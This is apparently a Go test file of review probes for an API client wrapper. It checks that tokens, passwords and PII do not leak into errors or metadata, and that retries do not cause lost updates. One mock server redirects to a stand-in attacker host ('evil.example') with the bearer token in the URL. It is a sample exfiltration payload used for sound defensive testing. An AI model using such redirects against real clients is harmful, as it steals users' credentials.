// Probes from the review of the spec-driven wrapper: each failed before its
// fix (leaks, a lost update, a wedged client, ctx timeouts after sending).

package wrapper

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"golang.org/x/oauth2"
)

func ztextResp(status int, body string) string {
	return fmt.Sprintf("HTTP/1.1 %d X\r\nContent-Length: %d\r\n\r\n%s", status, len(body), body)
}

// P1: a masked span before byte 1024 shrinks the text, so a token straddling 1024 shows its prefix.
func TestReviewSnippetPrefixCut(t *testing.T) {
	base := rawServer(t, func(r *http.Request, _ []byte) string {
		tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		filler := strings.Repeat("a", 990) + "@b.c "
		filler += strings.Repeat("x", 1024-16-len(filler))
		return ztextResp(500, filler+tok+" tail")
	})
	c, _ := NewClient(base, WithToken("AbCdEfGhIjKlMnOpQrStUvWxYz"), WithoutRetries())
	_, err := c.UpdateCustomer(context.Background(), validCustomerID, piiBody())
	t.Logf("err: %v", err)
	if strings.Contains(err.Error(), "AbCdEfGh") {
		t.Errorf("LEAK: token prefix")
	}
}

// P1b: same at the token endpoint (non-JSON 400 body), password straddling 1024.
func TestReviewSnippetPrefixCutTokenEndpoint(t *testing.T) {
	base := rawServer(t, func(r *http.Request, body []byte) string {
		filler := strings.Repeat("a", 990) + "@b.c "
		filler += strings.Repeat("x", 1024-12-len(filler))
		return ztextResp(400, filler+hostilePassword+" tail")
	})
	c, _ := NewClient(base, WithPasswordCredentials("client-id", hostileSecret, "user", hostilePassword), WithoutRetries())
	_, err := c.UpdateCustomer(context.Background(), validCustomerID, piiBody())
	t.Logf("err: %v", err)
	if l := leaks(err.Error()); len(l) > 0 {
		t.Errorf("LEAK: %v", l)
	}
}

// P2: a Java (Spring) URLEncoder echo of the password: '*' kept, '~' as %7E.
func TestReviewJavaURLEncodedPassword(t *testing.T) {
	const pw = "Sup3r*Secret~Pw"
	base := rawServer(t, func(r *http.Request, body []byte) string {
		b := `{"error":"invalid_grant","error_description":"Bad credentials for password=Sup3r*Secret%7EPw and lower p%2a"}`
		return "HTTP/1.1 400 Bad Request\r\nContent-Type: application/json\r\nContent-Length: " + fmt.Sprint(len(b)) + "\r\n\r\n" + b
	})
	c, _ := NewClient(base, WithPasswordCredentials("client-id", hostileSecret, "user", pw), WithoutRetries())
	_, err := c.UpdateCustomer(context.Background(), validCustomerID, piiBody())
	t.Logf("err: %v", err)
	if strings.Contains(err.Error(), "Sup3r*Secret") {
		t.Errorf("LEAK: password in Java URL encoding")
	}
}

// P3: PII in X-Request-Id reaches ResponseMetadata.RequestID (success path).
func TestReviewMetaRequestIDPII(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.Header().Set("X-Request-Id", "rid "+fxMobile+" "+fxEmail)
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"payload":{"customerId":%q}}`, validCustomerID)
	}))
	defer srv.Close()
	c, _ := NewClient(srv.URL, WithToken(hostileToken))
	var m ResponseMetadata
	_, err := c.UpdateCustomer(context.Background(), validCustomerID, piiBody(), WithResponseMetadata(&m))
	t.Logf("err=%v meta=%+v", err, m)
	if l := leaks(m.RequestID); len(l) > 0 {
		t.Errorf("LEAK in ResponseMetadata.RequestID: %v", l)
	}
}

// P4: rotating TokenSource: attempt 1 (token A) gets 503, attempt 2 (token B) gets an error echoing A.
type zrot struct{ n atomic.Int32 }

func (z *zrot) Token() (*oauth2.Token, error) {
	if z.n.Add(1) == 1 {
		return &oauth2.Token{AccessToken: "firstTokenAlphaBravoCharlie"}, nil
	}
	return &oauth2.Token{AccessToken: "secondTokenDeltaEchoFoxtrot"}, nil
}

func TestReviewOldTokenEcho(t *testing.T) {
	var prev atomic.Value
	var n atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		if n.Add(1) == 1 {
			prev.Store(r.Header.Get("Authorization"))
			w.Header().Set("Retry-After", "0")
			w.WriteHeader(503)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(400)
		fmt.Fprintf(w, `{"errorResponse":{"errorType":"CLIENT_REQUEST_ERROR","errorMessage":"stale %s"}}`, prev.Load())
	}))
	defer srv.Close()
	c, _ := NewClient(srv.URL, WithTokenSource(&zrot{}))
	_, err := c.UpdateCustomer(context.Background(), validCustomerID, piiBody())
	t.Logf("err: %v", err)
	if strings.Contains(err.Error(), "firstTokenAlpha") {
		t.Errorf("LEAK: first attempt's token")
	}
}

// P5: the caller's context ends after the server received the request: the
// outcome is unknown.
func TestReviewCtxTimeoutAfterSend(t *testing.T) {
	got := make(chan struct{}, 1)
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		got <- struct{}{}
		<-release
	}))
	defer srv.Close()
	defer close(release)
	c, _ := NewClient(srv.URL, WithToken(hostileToken))
	defer c.CloseIdleConnections()
	ctx, cancel := context.WithCancel(context.Background())
	go func() { <-got; cancel() }()
	_, err := c.UpdateCustomer(ctx, validCustomerID, piiBody())
	require.ErrorIs(t, err, context.Canceled)
	assert.ErrorIs(t, err, ErrOutcomeUnknown, "the server had the request")
}

// P6: a TLS server applies the PATCH, then writes plaintext on the TLS connection:
// tls.RecordHeaderError after the request was sent -> retried?
func TestReviewRecordHeaderErrorAfterSend(t *testing.T) {
	ts := httptest.NewTLSServer(http.NotFoundHandler())
	cert := ts.TLS.Certificates
	clientTr := ts.Client().Transport.(*http.Transport).Clone()
	ts.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var applied atomic.Int32
	var wg sync.WaitGroup
	go func() {
		for {
			raw, err := ln.Accept()
			if err != nil {
				return
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer raw.Close()
				tc := tls.Server(raw, &tls.Config{Certificates: cert})
				req, err := http.ReadRequest(bufio.NewReader(tc))
				if err != nil {
					return
				}
				io.Copy(io.Discard, req.Body)
				applied.Add(1)
				io.WriteString(raw, "GARBAGE FROM A MIDDLEBOX\r\n") // plaintext on the TLS conn
			}()
		}
	}()
	c, err := NewClient("https://"+ln.Addr().String(), WithToken(hostileToken),
		WithHTTPClient(&http.Client{Transport: clientTr}), WithRetry(RetryPolicy{BaseDelay: time.Millisecond, MaxDelay: time.Millisecond}))
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.UpdateCustomer(context.Background(), validCustomerID, piiBody())
	ln.Close()
	wg.Wait()
	t.Logf("applied=%d err=%v unknown=%v", applied.Load(), err, errors.Is(err, ErrOutcomeUnknown))
	if applied.Load() > 1 {
		t.Errorf("LOST UPDATE: PATCH applied %d times without RetryUnknownOutcome", applied.Load())
	}
}

// P8: redirect with token in Location; gzip body with token.
func TestReviewRedirectAndGzip(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Location", "https://evil.example/?t="+r.Header.Get("Authorization"))
		w.Header().Set("X-Debug", r.Header.Get("Authorization"))
		w.WriteHeader(302)
		io.WriteString(w, "moved "+r.Header.Get("Authorization"))
	}))
	defer srv.Close()
	c, _ := NewClient(srv.URL, WithToken(hostileToken))
	_, err := c.UpdateCustomer(context.Background(), validCustomerID, piiBody())
	t.Logf("err: %v", err)
	if l := leaks(err.Error()); len(l) > 0 {
		t.Errorf("LEAK: %v", l)
	}
}

// P10: spec PII properties named in a JSON-ish errorMessage are not masked by APIError.Error (scrub only).
func TestReviewPIIKeysInErrorMessage(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(400)
		io.WriteString(w, `{"errorResponse":{"errorType":"VALIDATION_ERROR","errorMessage":"rejected {\"ifsc\":\"hdfc0000123\",\"accountNumber\":\"ACCT-55-1234\"}",`+
			`"apiSubErrors":[{"field":"x","message":"{\"panOrGstin\":\"abcde1234f\"}"}]}}`)
	}))
	defer srv.Close()
	c, _ := NewClient(srv.URL, WithToken(hostileToken))
	_, err := c.UpdateCustomer(context.Background(), validCustomerID, piiBody())
	t.Logf("err: %v", err)
	for _, s := range []string{"hdfc0000123", "ACCT-55-1234", "abcde1234f"} {
		if strings.Contains(err.Error(), s) {
			t.Errorf("LEAK: %s", s)
		}
	}
}
